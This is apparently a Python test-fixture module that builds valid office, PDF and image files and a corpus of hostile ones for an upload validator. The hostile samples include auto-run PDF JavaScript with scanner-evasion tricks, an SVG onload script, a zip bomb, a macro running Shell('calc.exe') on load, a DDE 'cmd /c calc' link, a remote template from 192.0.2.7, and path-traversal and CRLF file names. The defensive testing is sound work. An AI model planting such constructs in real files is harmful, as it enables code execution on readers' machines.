"""Small files of every accepted type, and a corpus of bad ones, made in memory."""

import functools
import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject


@functools.cache  # one content per variant: tests compare bytes
def pdf_bytes(*, javascript=False, password=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('x')"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _zip(entries: list[tuple[str, bytes]], *, stored_first=False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            compress = zipfile.ZIP_STORED if (stored_first and index == 0) else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compress)
    return buffer.getvalue()


OFFICE_NS = (
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
    ' xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    ' xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:dom="http://www.w3.org/2001/xml-events"'
    ' office:version="1.3"'
)
MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest'
    b' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    b' manifest:version="1.3"><manifest:file-entry manifest:full-path="/"'
    b' manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)
# What LibreOffice writes: an empty <office:scripts/>, a web and a mail link, an anchor,
# an image stored in the package, a chart object, a template named by a relative path.
ODT_BODY = (
    '<text:p>Voir <text:a xlink:type="simple" xlink:href="https://www.caf.fr/">le site</text:a>,'
    ' <text:a xlink:href="mailto:mstr@example.org">écrire</text:a>,'
    ' <text:a xlink:href="#Annexe">l\'annexe</text:a>,'
    ' <text:a xlink:href="../Annexes/budget%202025.ods#Feuille1">le budget</text:a>.</text:p>'
    '<draw:frame><draw:image xlink:href="Pictures/10000000.png" xlink:type="simple"'
    ' xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
    '<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame>'
)
ODS_BODY = (
    '<table:table table:name="Budget"><table:table-row><table:table-cell'
    ' table:formula="of:=SUM([.A1:.A2])"/><table:table-cell'
    ' table:formula="of:=&quot;Poste|DDE(&quot;&amp;[.A1]"/></table:table-row></table:table>'
)


def odf_content(body: str = ODT_BODY, kind: str = "text", head: str = "<office:scripts/>") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content{OFFICE_NS}>'
        f"{head}<office:body><office:{kind}>{body}</office:{kind}></office:body>"
        "</office:document-content>"
    ).encode()


def odf_bytes(
    kind="text", mimetype=None, *, content=None, extra_entries=(), manifest=MANIFEST
) -> bytes:
    mimetype = mimetype or f"application/vnd.oasis.opendocument.{kind}"
    body = ODT_BODY if kind == "text" else ODS_BODY
    meta = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta{OFFICE_NS}><office:meta>'
        '<meta:generator>LibreOffice/24.2</meta:generator><meta:template xlink:type="simple"'
        ' xlink:href="../../Modeles/courrier.ott" xlink:title="courrier"/></office:meta>'
        "</office:document-meta>"
    ).encode()
    return _zip(
        [
            ("mimetype", mimetype.encode()),
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content or odf_content(body, kind)),
            ("styles.xml", f"<office:document-styles{OFFICE_NS}/>".encode()),
            ("meta.xml", meta),
            ("Pictures/10000000.png", png_bytes()),
            ("Object 1/content.xml", odf_content("", "chart")),
            ("Configurations2/accelerator/current.xml", b""),  # empty, as LibreOffice writes it
            ("Thumbnails/thumbnail.png", png_bytes()),
            *extra_entries,
        ],
        stored_first=True,
    )


W_NS = (
    ' xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships'
    ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="{{main}}"/>'
    "</Relationships>"
)
# A Word body with the fields Word writes every day: a hyperlink field split over runs
# (as Word does), a page number, and a simple « DATE » field.
DOCX_BODY = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    ' HYPER</w:instrText></w:r><w:r><w:instrText>LINK "https://www.caf.fr/"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Caf</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>Le site</w:t></w:r></w:hyperlink>'
    '<w:hyperlink w:anchor="annexe"><w:r><w:t>Annexe</w:t></w:r></w:hyperlink>'
    '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/></w:p>'
)


def relationships(*rows: tuple[str, str, str | None]) -> bytes:
    """A .rels part: (type, target, target mode or None)."""
    items = "".join(
        f'<Relationship Id="rId{index}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for index, (kind, target, mode) in enumerate(rows, start=2)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships'
        f' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}'
        "</Relationships>"
    ).encode()


def _content_types(main_part: str, content_type: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{content_type}"/>{extra}</Types>'
    ).encode()


def docx_bytes(
    *, extra_entries=(), content_type=None, body=DOCX_BODY, document_rels=None, settings=None
) -> bytes:
    content_type = content_type or (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    rels = document_rels or relationships(
        ("styles", "styles.xml", None),
        ("hyperlink", "https://www.service-public.fr/associations", "External"),
        ("hyperlink", "mailto:mstr@example.org", "External"),
        ("hyperlink", "Annexes/statuts%202024.pdf", "External"),
        ("image", "media/image1.png", None),
    )
    return _zip(
        [
            ("[Content_Types].xml", _content_types("word/document.xml", content_type)),
            ("_rels/.rels", PACKAGE_RELS.format(main="word/document.xml").encode()),
            (
                "word/document.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><w:document{W_NS}><w:body>{body}'
                "</w:body></w:document>".encode(),
            ),
            ("word/_rels/document.xml.rels", rels),
            ("word/styles.xml", f"<w:styles{W_NS}/>".encode()),
            ("word/settings.xml", settings or f"<w:settings{W_NS}/>".encode()),
            ("word/media/image1.png", png_bytes()),
            *extra_entries,
        ]
    )


S_NS = ' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
# Formulas of a real budget: a sum, and a text holding a « | » inside quotes.
SHEET_ROWS = (
    '<row r="1"><c r="A1"><v>1200</v></c><c r="B1"><f>SUM(A1:A3)</f><v>1200</v></c>'
    '<c r="C1" t="str"><f>"Poste|"&amp;A1</f><v>Poste|1200</v></c>'
    '<c r="D1" t="str"><f>"voir WEBSERVICE(x) et DDE(y)"</f></c></row>'
)


def xlsx_bytes(*, rows=SHEET_ROWS, extra_entries=(), workbook_rels=None) -> bytes:
    rels = workbook_rels or relationships(("worksheet", "worksheets/sheet1.xml", None))
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    "xl/workbook.xml",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                ),
            ),
            ("_rels/.rels", PACKAGE_RELS.format(main="xl/workbook.xml").encode()),
            (
                "xl/workbook.xml",
                f'<workbook{S_NS}><sheets><sheet name="Budget" sheetId="1" r:id="rId2"'
                f' xmlns:r="{REL}"/></sheets></workbook>'.encode(),
            ),
            ("xl/_rels/workbook.xml.rels", rels),
            (
                "xl/worksheets/sheet1.xml",
                f"<worksheet{S_NS}><sheetData>{rows}</sheetData></worksheet>".encode(),
            ),
            ("xl/printerSettings/printerSettings1.bin", b"\x00\x01" * 100),
            *extra_entries,
        ]
    )


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bytes(*, width=2, height=2, break_crc=False) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    data = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(raw))
    data += _chunk(b"IEND", b"")
    if break_crc:
        data = data[:20] + bytes([data[20] ^ 0xFF]) + data[21:]
    return data


def jpeg_bytes(*, with_eoi=True) -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    data = b"\xff\xd8" + dqt + sof + sos + b"\x12\x34\x56"
    return data + (b"\xff\xd9" if with_eoi else b"")


def zip_bomb_docx(size=8 * 1024 * 1024) -> bytes:
    """A DOCX-looking package whose one entry inflates a thousand times."""
    return docx_bytes(extra_entries=[("word/media/image1.bin", b"\x00" * size)])


GOOD = {
    "rapport.pdf": (pdf_bytes, "application/pdf"),
    "compte-rendu.odt": (lambda: odf_bytes("text"), "application/vnd.oasis.opendocument.text"),
    "budget.ods": (
        lambda: odf_bytes("spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    "statuts.docx": (
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "tresorerie.xlsx": (
        xlsx_bytes,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "organigramme.png": (png_bytes, "image/png"),
    "photo.jpg": (jpeg_bytes, "image/jpeg"),
}

# name → (content factory, words expected in the French message)
BAD = {
    "executable renamed to PDF": ("facture.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, "type"),
    "ELF renamed to DOCX": ("note.docx", lambda: b"\x7fELF" + b"\x00" * 200, "type"),
    "HTML disguised as PDF": (
        "rapport.pdf",
        lambda: b"<!doctype html><html><script>alert(1)</script></html>",
        "type",
    ),
    "SVG disguised as PNG": (
        "logo.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "type",
    ),
    "zip bomb disguised as DOCX": ("rapport.docx", zip_bomb_docx, "démesuré"),
    "plain ZIP renamed to DOCX": (
        "archive.docx",
        lambda: _zip([("a.txt", b"hello"), ("b.exe", b"MZ")]),
        "type",
    ),
    "macro-enabled document renamed to DOCX": (
        "macro.docx",
        lambda: docx_bytes(extra_entries=[("word/vbaProject.bin", b"\x00" * 10)]),
        "macros",
    ),
    "ODF with a foreign mimetype": (
        "dessin.odt",
        lambda: odf_bytes(mimetype="application/vnd.oasis.opendocument.graphics"),
        "type",
    ),
    "PDF running JavaScript": ("formulaire.pdf", lambda: pdf_bytes(javascript=True), "JavaScript"),
    "encrypted PDF": ("secret.pdf", lambda: pdf_bytes(password="x"), "mot de passe"),
    "truncated PDF": ("coupe.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<<", "illisible"),
    "PNG with a broken checksum": ("image.png", lambda: png_bytes(break_crc=True), "endommagée"),
    "JPEG cut before its end": ("photo.jpg", lambda: jpeg_bytes(with_eoi=False), "incomplète"),
    "empty file": ("vide.pdf", lambda: b"", "vide"),
    "name with path traversal": ("../../etc/passwd.pdf", pdf_bytes, "chemin"),
    "Windows path traversal": ("..\\..\\boot.pdf", pdf_bytes, "chemin"),
    "name with CRLF (header injection)": (
        "rapport.pdf\r\nSet-Cookie: x=1",
        pdf_bytes,
        "invisibles",
    ),
    "name with a NUL byte": ("rapport.pdf\x00.exe", pdf_bytes, "invisibles"),
}


# --- Hostile corpus ------------------------------------------------------------------
# Each sample is built here, in memory, the way an attacker would write it; the tests
# check that each one is refused with the French message below, naming the reason.


def pdf_value(value):
    """A pypdf object from a Python value: "/Name", "text", numbers, lists, dicts."""
    from pypdf.generic import ArrayObject, FloatObject, NumberObject, PdfObject

    if isinstance(value, PdfObject):
        return value
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bool | int):
        return NumberObject(int(value))
    if isinstance(value, float):
        return FloatObject(value)
    if isinstance(value, list):
        return ArrayObject(pdf_value(item) for item in value)
    return DictionaryObject({NameObject(key): pdf_value(item) for key, item in value.items()})


def built_pdf(build) -> bytes:
    """A one-page PDF written by pypdf after `build(writer, page, page_ref)` changed it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    page = writer.pages[0]
    build(writer, page, page.indirect_reference)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _ref(writer, value):
    return writer._add_object(pdf_value(value))


JS = {"/S": "/JavaScript", "/JS": "app.alert('x')"}
RECT = [10, 10, 100, 40]


def _annotate(writer, page, *annotations):
    page[NameObject("/Annots")] = pdf_value([_ref(writer, a) for a in annotations])


def _link(action):
    return {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": RECT, "/A": action}


def pdf_with_link(action) -> bytes:
    return built_pdf(lambda writer, page, ref: _annotate(writer, page, _link(action)))


def pdf_opening(action) -> bytes:
    def build(writer, page, ref):
        writer._root_object[NameObject("/OpenAction")] = pdf_value(action)

    return built_pdf(build)


def pdf_with_page_actions() -> bytes:
    def build(writer, page, ref):
        page[NameObject("/AA")] = pdf_value({"/O": _ref(writer, JS)})

    return built_pdf(build)


def pdf_with_document_actions(action) -> bytes:
    def build(writer, page, ref):
        writer._root_object[NameObject("/AA")] = pdf_value({"/WC": action})

    return built_pdf(build)


def pdf_next_chain(*, as_array=False) -> bytes:
    def build(writer, page, ref):
        third = _ref(writer, JS)
        second = {"/S": "/Named", "/N": "/NextPage", "/Next": [third] if as_array else third}
        action = {"/S": "/GoTo", "/D": [ref, "/Fit"], "/Next": _ref(writer, second)}
        writer._root_object[NameObject("/OpenAction")] = _ref(writer, action)

    return built_pdf(build)


def pdf_action_cycle(*, with_javascript=False) -> bytes:
    """Two actions that run each other: the walk must stop, and still see the script."""

    def build(writer, page, ref):
        first = _ref(writer, {"/S": "/GoTo", "/D": [ref, "/Fit"]})
        tail = [first, _ref(writer, JS)] if with_javascript else first
        second = _ref(writer, {"/S": "/Named", "/N": "/FirstPage", "/Next": tail})
        first.get_object()[NameObject("/Next")] = second
        writer._root_object[NameObject("/OpenAction")] = first

    return built_pdf(build)


def pdf_form_field(actions=None, *, xfa=False) -> bytes:
    def build(writer, page, ref):
        field = {"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx", "/T": "montant"}
        field.update({"/Rect": RECT, "/P": ref})
        if actions:
            field["/AA"] = actions
        field_ref = _ref(writer, field)
        page[NameObject("/Annots")] = pdf_value([field_ref])
        form = {"/Fields": [field_ref]}
        if xfa:
            form["/XFA"] = ["template", _ref(writer, {"/Length": 0})]
        writer._root_object[NameObject("/AcroForm")] = pdf_value(form)

    return built_pdf(build)


def pdf_button(action) -> bytes:
    button = {"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Btn", "/Rect": RECT}
    return built_pdf(lambda writer, page, ref: _annotate(writer, page, {**button, "/A": action}))


def pdf_annotation(annotation) -> bytes:
    return built_pdf(lambda writer, page, ref: _annotate(writer, page, annotation))


def pdf_document_javascript() -> bytes:
    def build(writer, page, ref):
        tree = {"/JavaScript": {"/Names": ["init", _ref(writer, JS)]}}
        writer._root_object[NameObject("/Names")] = pdf_value(tree)

    return built_pdf(build)


def pdf_with_attachment() -> bytes:
    return built_pdf(lambda writer, page, ref: writer.add_attachment("facture.exe", b"MZ\x90\x00"))


def pdf_file_attachment_annotation() -> bytes:
    def build(writer, page, ref):
        stream = StreamObject()
        stream.set_data(b"MZ\x90\x00")
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        spec = {"/Type": "/Filespec", "/F": "outil.exe", "/EF": {"/F": writer._add_object(stream)}}
        annotation = {"/Type": "/Annot", "/Subtype": "/FileAttachment", "/Rect": RECT}
        _annotate(writer, page, {**annotation, "/FS": _ref(writer, spec)})

    return built_pdf(build)


def pdf_ordinary_links() -> bytes:
    """What real documents hold: web and mail links, a jump in the document, bookmarks."""

    def build(writer, page, ref):
        _annotate(
            writer,
            page,
            _link({"/S": "/URI", "/URI": "https://www.caf.fr/"}),
            _link({"/S": "/URI", "/URI": "mailto:mstr@example.org"}),
            _link({"/S": "/GoTo", "/D": [ref, "/XYZ", 0, 200, 0]}),
            {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": RECT, "/Dest": [ref, "/Fit"]},
            _link({"/S": "/Named", "/N": "/NextPage"}),
        )
        writer.add_outline_item(title="Annexe", page_number=0)
        writer._root_object[NameObject("/OpenAction")] = pdf_value([ref, "/Fit"])

    return built_pdf(build)


# Hand-written PDFs, for what pypdf will not write: escaped names, object streams,
# incremental updates, objects that no cross-reference table lists.


def raw_pdf(objects: dict[int, bytes], *, root=1, unlisted=(), tail=b"") -> bytes:
    """A PDF with a classic cross-reference table; objects in `unlisted` are left out of it."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets and number not in unlisted:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out) + tail


PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
}


def pdf_escaped_names() -> bytes:
    """« /J#61vaScript » is « /JavaScript » to every reader; a byte search misses it."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            **PAGES,
            4: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        }
    )


def pdf_unlisted_object() -> bytes:
    """A script in an object the table leaves out: a repairing reader still finds it."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            **PAGES,
            4: b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
        unlisted={4},
    )


def _object_stream(objects: dict[int, bytes]) -> bytes:
    header, body = b"", b""
    for number, content in objects.items():
        header += b"%d %d " % (number, len(body))
        body += content + b"\n"
    data = header + body
    return (
        b"<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n"
        % (len(objects), len(header), len(data))
        + data
        + b"\nendstream"
    )


def pdf_object_stream() -> bytes:
    """PDF 1.5: catalog and script inside an object stream, a cross-reference stream."""
    inner = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: PAGES[2],
        3: PAGES[3],
        4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"5 0 obj\n" + _object_stream(inner) + b"\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, index) for index in range(4)]
    rows += [struct.pack(">BIH", 1, stream_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


def pdf_unlisted_object_stream() -> bytes:
    """An object stream that no table lists, holding a script."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            **PAGES,
            5: _object_stream({4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}),
        },
        unlisted={5},
    )


def pdf_incremental_update(*, script_in_update=True, script=True) -> bytes:
    """A PDF, then an update appended to it: the update adds a script, or removes the one
    the earlier revision had (still in the file, where a reader showing revisions finds it).
    """
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    goto = b"<< /S /GoTo /D [3 0 R /Fit] >>"
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>" if script else goto
    first, second = (goto, action) if script_in_update else (action, goto)
    base = raw_pdf({1: catalog, **PAGES, 4: first})
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(base)
    offset = len(out)
    out += b"4 0 obj\n" + second + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n4 1\n%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        xref,
    )
    return bytes(out)


def pdf_deep_nesting(depth=5000) -> bytes:
    return raw_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * depth + b"]" * depth + b" >>", **PAGES}
    )


def pdf_nested_headers(count: int) -> bytes:
    """« 1 0 obj ( » over and over, never closed: each header opens a string to the end."""
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PAGES}, tail=b"1 0 obj (" * count)


def pdf_page_tree_loop() -> bytes:
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: PAGES[3],
        }
    )


def pdf_many_objects(count=300) -> bytes:
    def build(writer, page, ref):
        writer._root_object[NameObject("/X")] = pdf_value([_ref(writer, [n]) for n in range(count)])

    return built_pdf(build)


# ODF


def odt_with(body="", head="<office:scripts/>", extra_entries=()) -> bytes:
    return odf_bytes(
        content=odf_content(ODT_BODY + body, "text", head), extra_entries=extra_entries
    )


BASIC_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?><script:module'
    b' xmlns:script="http://openoffice.org/2000/script" script:name="Module1"'
    b' script:language="StarBasic">Sub Main\nShell("calc.exe")\nEnd Sub</script:module>'
)
DOM_LOAD = (
    "<office:scripts><office:event-listeners><script:event-listener"
    ' script:language="ooo:script" script:event-name="dom:load"'
    ' xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"'
    "/></office:event-listeners></office:scripts>"
)


def odt_basic_macro(*, with_event=False) -> bytes:
    return odt_with(
        head=DOM_LOAD if with_event else "<office:scripts/>",
        extra_entries=[
            ("Basic/script-lc.xml", b"<library:libraries/>"),
            ("Basic/Standard/Module1.xml", BASIC_MODULE),
        ],
    )


def ods_with(body) -> bytes:
    return odf_bytes("spreadsheet", content=odf_content(ODS_BODY + body, "spreadsheet"))


# OOXML


def docx_with_rels(*rows, part="word/_rels/document.xml.rels", settings=None) -> bytes:
    if part == "word/_rels/document.xml.rels":
        return docx_bytes(document_rels=relationships(*rows), settings=settings)
    return docx_bytes(extra_entries=[(part, relationships(*rows))], settings=settings)


def docx_remote_template() -> bytes:
    settings = f'<w:settings{W_NS}><w:attachedTemplate r:id="rId2"/></w:settings>'.encode()
    return docx_with_rels(
        ("attachedTemplate", "http://192.0.2.7/modele.dotm", "External"),
        part="word/_rels/settings.xml.rels",
        settings=settings,
    )


def docx_field(code_parts: list[str]) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in code_parts)
    body = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx_bytes(body=DOCX_BODY + body)


def xlsx_external_workbook(*, dde=False) -> bytes:
    link = (
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        if dde
        else '<externalBook r:id="rId2" xmlns:r="' + REL + '"/>'
    )
    return xlsx_bytes(
        workbook_rels=relationships(
            ("worksheet", "worksheets/sheet1.xml", None),
            ("externalLink", "externalLinks/externalLink1.xml", None),
        ),
        extra_entries=[
            (
                "xl/externalLinks/externalLink1.xml",
                f"<externalLink{S_NS}>{link}</externalLink>".encode(),
            ),
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                relationships(
                    ("externalLinkPath", "file:///\\\\192.0.2.7\\partage\\b.xlsx", "External")
                ),
            ),
        ]
        if not dde
        else [
            (
                "xl/externalLinks/externalLink1.xml",
                f"<externalLink{S_NS}>{link}</externalLink>".encode(),
            )
        ],
    )


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def docx_embedding(name: str, data: bytes) -> bytes:
    return docx_bytes(extra_entries=[(f"word/embeddings/{name}", data)])


# Images


def png_with_text(kind: bytes, text: bytes) -> bytes:
    if kind == b"tEXt":
        body = b"Comment\x00" + text
    elif kind == b"zTXt":
        body = b"Comment\x00\x00" + zlib.compress(text)
    else:  # compressed iTXt
        body = b"Comment\x00\x01\x00fr\x00\x00" + zlib.compress(text)
    data = png_bytes()
    return data[:33] + _chunk(kind, body) + data[33:]


def png_with_header(*, bit_depth: int = 8, colour_type: int = 2, side: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", side, side, bit_depth, colour_type, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 20)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def png_with_chunk(kind: bytes, body: bytes) -> bytes:
    data = png_bytes()
    return data[:33] + _chunk(kind, body) + data[33:]


def png_with_markup_bytes_in_pixels() -> bytes:
    """Pixel values that happen to spell « <svg> », stored uncompressed: not markup."""
    ihdr = struct.pack(">IIBBBBB", 5, 1, 8, 0, 0, 0, 0)  # 5×1, greyscale
    idat = zlib.compress(b"\x00<svg>", 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def jpeg_with_segment(marker: bytes, body: bytes) -> bytes:
    data = jpeg_bytes()
    return data[:2] + b"\xff" + marker + struct.pack(">H", len(body) + 2) + body + data[2:]


def jpeg_with_comment(text: bytes) -> bytes:
    data = jpeg_bytes()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def pillow_image(format: str, **options) -> bytes:
    """A real image written by Pillow (what a phone or an editor produces)."""
    from PIL import Image, PngImagePlugin

    image = Image.new("RGB", (64, 48), (200, 30, 30))
    for x in range(64):
        image.putpixel((x, x % 48), (x * 4, 255 - x * 4, 90))
    buffer = io.BytesIO()
    if format == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Software", "GIMP 2.10")
        info.add_itxt("Description", "Organigramme du centre", zip=True)
        image.save(buffer, "PNG", pnginfo=info)
    else:
        image.save(buffer, "JPEG", **options)
    return buffer.getvalue()


def openpyxl_workbook() -> bytes:
    """A workbook as a real library writes it: formulas, web, mail and internal links,
    a comment (with its legacy VML drawing), a theme, document properties."""
    from openpyxl import Workbook
    from openpyxl.comments import Comment

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Budget"
    sheet["A1"], sheet["A2"], sheet["A3"] = 1200, 300, "=SUM(A1:A2)"
    for cell, text, target in [
        ("B1", "Caf", "https://www.caf.fr/"),
        ("B2", "Début", "#Budget!A1"),
        ("B3", "Écrire", "mailto:mstr@example.org"),
    ]:
        sheet[cell] = text
        sheet[cell].hyperlink = target
    sheet["C1"].comment = Comment("Montant à vérifier", "Coordination")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


HTML_PAGE = b"<html><body><script>fetch('/x')</script></body></html>"
ZIP_ARCHIVE = _zip([("outil.exe", b"MZ\x90\x00")])

_PDF_JS = "Le PDF contient du JavaScript ({}) : il est refusé."
_REMOTE = "Ce document charge un contenu distant ({}) à l'ouverture : il est refusé."
